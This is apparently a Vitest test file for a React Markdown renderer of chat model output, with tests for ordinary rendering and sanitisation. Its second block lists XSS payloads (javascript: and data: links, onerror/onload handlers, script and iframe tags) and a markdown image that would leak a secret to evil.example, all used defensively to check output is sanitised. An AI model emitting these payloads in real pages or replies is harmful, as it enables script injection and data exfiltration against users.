import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

function render(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} isGrowing={false} />);
}

/** Names of the elements in a piece of HTML, each once. */
function elementsOf(html: string): string[] {
  return [...new Set([...html.matchAll(/<([a-z0-9]+)/g)].map((match) => match[1] ?? ''))].sort();
}

describe('Markdown', () => {
  test.each([
    ['# One\n\n## Two', ['h3', 'h4']],
    ['### Three\n\n#### Four\n\n###### Six', ['h5', 'h6']],
    ['a **b** *c* ~~d~~ `e`', ['code', 'del', 'em', 'p', 'strong']],
    ['one  \ntwo', ['br', 'p']],
    ['> quoted\n>\n> twice', ['blockquote', 'p']],
    ['- a\n  - b\n    1. c', ['li', 'ol', 'ul']],
    ['---', ['hr']],
    ['| a | b |\n| - | - |\n| c<br>d | e |', ['br', 'table', 'tbody', 'td', 'th', 'thead', 'tr']],
  ])('draws %j', (text, elements) => {
    expect(elementsOf(render(text)).filter((name) => name !== 'div')).toEqual(elements);
  });

  test('begins a list where it begins', () => {
    expect(render('3. three\n4. four')).toContain('<ol start="3">');
  });

  test('says which tasks are done', () => {
    const html = render('- [x] done\n- [ ] open');
    expect(html).toContain('aria-label="Done"');
    expect(html).toContain('aria-label="Not done"');
  });

  test('aligns the cells of a table', () => {
    const html = render('| a | b | c |\n| :- | :-: | -: |\n| 1 | 2 | 3 |');
    expect(html).toMatch(/<td class="[^"]*left[^"]*">1<\/td>/);
    expect(html).toMatch(/<td class="[^"]*center[^"]*">2<\/td>/);
    expect(html).toMatch(/<td class="[^"]*right[^"]*">3<\/td>/);
  });

  test('names the language of code, and leaves the code as it is', () => {
    const html = render('```ts {1}\nif (a < b && c) {\n}\n```');
    expect(html).toContain('<span>ts</span>');
    expect(html).toContain('if (a &lt; b &amp;&amp; c) {\n}');
    expect(html).toContain('aria-label="Copy code: if (a &lt; b &amp;&amp; c) {"');
    expect(render('    indented')).toContain('<span>text</span>');
  });

  test('resolves character references in text, not in code', () => {
    expect(render('&lt;b&gt; &copy; &#8364;')).toContain('&lt;b&gt; © €');
    expect(render('`&copy;`')).toContain('&amp;copy;');
  });

  test('leads to the web and to mail boxes, in a tab of their own and without telling where from', () => {
    const html = render('[a](https://a.b/?x=1&amp;y=2) <mailto:c@d.e> https://f.g');
    expect(html).toContain(
      '<a href="https://a.b/?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    );
    expect(html).toContain('href="mailto:c@d.e"');
    expect(html).toContain('href="https://f.g/"');
  });
});

describe('text of a model that means harm', () => {
  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox)',
    '[x](/api/chat)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
    '[x][1]\n\n[1]: javascript:alert(1)',
  ])('gets no link out of %j', (text) => {
    expect(render(text)).not.toContain('<a ');
  });

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    'a <b onclick=alert(1)>b</b> c',
    '<iframe src="https://evil.example"></iframe>',
    '<style>*{background:url(https://evil.example)}</style>',
    '| <img src=x> |\n| - |\n| <script> |',
    '"><script>alert(1)</script>',
  ])('shows %j as it is written', (text) => {
    const html = render(text);
    const allowed = ['br', 'div', 'p', 'table', 'tbody', 'td', 'th', 'thead', 'tr'];
    expect(elementsOf(html).filter((name) => !allowed.includes(name))).toEqual([]);
  });

  test('gets no picture loaded, only a link that says it is one', () => {
    const html = render('![secret](https://evil.example/?q=secret "t")');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/?q=secret"');
    expect(html).toContain('Image: secret');
  });

  test('makes nothing but harmless elements, whatever it is', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '[',
      ']',
      '(',
      ')',
      '!',
      '*',
      '_',
      '|',
      '\n',
      ' ',
      '\\',
      '&',
      ';',
      'javascript:',
      'script',
      'img src=x onerror=',
      'style',
      'https://',
      '<!--',
      '```',
      '- ',
      '#',
    );
    const harmless = new Set(
      'a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr li ol p path pre rect span strong svg table tbody td th thead tr ul'.split(
        ' ',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const html = render(pieces.join(''));
        expect(elementsOf(html).filter((name) => !harmless.has(name))).toEqual([]);
        const withoutValues = html.replaceAll(/="[^"]*"/g, '');
        expect(withoutValues).not.toMatch(/<[^>]*\son[a-z]+/);
        expect(html).not.toMatch(/href="(?!https?:|mailto:)/);
      }),
    );
  });
});
